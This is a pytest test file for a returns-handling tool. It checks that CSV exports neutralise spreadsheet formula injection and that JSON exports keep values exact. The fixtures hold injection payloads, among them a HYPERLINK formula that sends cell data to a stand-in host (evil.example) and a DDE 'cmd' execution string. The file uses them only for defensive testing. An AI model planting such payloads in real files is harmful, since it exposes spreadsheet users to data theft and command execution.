"""CSV the bench writes cannot run formulas in a spreadsheet; JSON stays exact (issue 14, item 5)."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta
from decimal import Decimal

import pytest
from click.testing import CliRunner

from dockstation import events
from dockstation.cli import main
from dockstation.csv_out import safe_cell
from dockstation.models import Rma, RmaLine
from dockstation.receiving import handle_scan, sign_in
from dockstation.scan import ScanEvent, classify
from dockstation.types import utcnow

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"RMA")', "+SUM(1,2)", "-2+3", "@SUM(A1)",
            "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", "＝1+1"]


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_quote(cell):
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-12.50", "+3", "-0", "1e5", "-.5", "RMA-2026-000001", "", "a=b", "B07-00000001"])
def test_numbers_and_ordinary_text_are_left_as_they_are(cell):
    assert safe_cell(cell) == cell


def test_non_text_values_pass_unchanged():
    assert safe_cell(None) is None and safe_cell(-3) == -3


def _export(home, what: str, fmt: str) -> str:
    result = CliRunner().invoke(main, ["--home", str(home), "export", what, "--format", fmt])
    assert result.exit_code == 0, result.output
    return result.stdout


@pytest.fixture
def hostile(bench, store):
    """An exception whose scanned code is a formula; a unit whose manifest text is one."""
    now = utcnow()
    with store.write() as s:  # manifest text as HQ or a CSV could bring it
        s.add(Rma(rma_id="RMA-2026-000100", order_id="O-1", created_at=now - timedelta(days=1),
                  expires_at=now + timedelta(days=30), status="open", updated_at=now))
        s.add(RmaLine(rma_id="RMA-2026-000100", line_no=1, sku="@SKU", description="=cmd|' /C calc'!A0",
                      category="-phones", unit_price=Decimal("-5.00")))
    op = sign_in(store, bench, ScanEvent("OP-1001", "test", None, utcnow()), "1001").operator
    for code in (FORMULAS[0], "RMA-2026-000100"):
        out = handle_scan(store, bench, op, ScanEvent(code, "wedge", None, utcnow()),
                          classify(code, bench.codes.patterns))
    with store.write() as s:  # disposed, so the KPI report has a recovery row for its category
        events.record(s, "B07", "unit_disposed", lpn=out.unit.lpn,
                      payload={"path": "recycle", "recovery_value": "0", "category": "-phones"})
    return store


def test_exported_csv_is_neutralised_and_json_is_exact(home, hostile):
    rows = list(csv.DictReader(io.StringIO(_export(home, "exceptions", "csv"))))
    assert rows[0]["code"] == "'" + FORMULAS[0]
    assert json.loads(_export(home, "exceptions", "json"))[0]["code"] == FORMULAS[0]

    [unit] = list(csv.DictReader(io.StringIO(_export(home, "units", "csv"))))
    assert unit["description"] == "'=cmd|' /C calc'!A0"
    assert unit["sku"] == "'@SKU" and unit["category"] == "'-phones"
    assert unit["unit_price"] == "-5.00"  # a number stays a number
    [unit_json] = json.loads(_export(home, "units", "json"))
    assert (unit_json["description"], unit_json["sku"]) == ("=cmd|' /C calc'!A0", "@SKU")

    events = list(csv.DictReader(io.StringIO(_export(home, "events", "csv"))))
    assert all(not row["payload"][:1] in "=+-@" for row in events)


def test_kpi_csv_is_neutralised(home, hostile):
    out = _export(home, "kpis", "csv")
    cells = [cell for row in csv.reader(io.StringIO(out)) for cell in row]
    assert any(cell.startswith("'-phones/") for cell in cells)
    assert not any(cell[:1] in ("=", "+", "@") or (cell[:1] == "-" and not cell[1:2].isdigit()) for cell in cells)
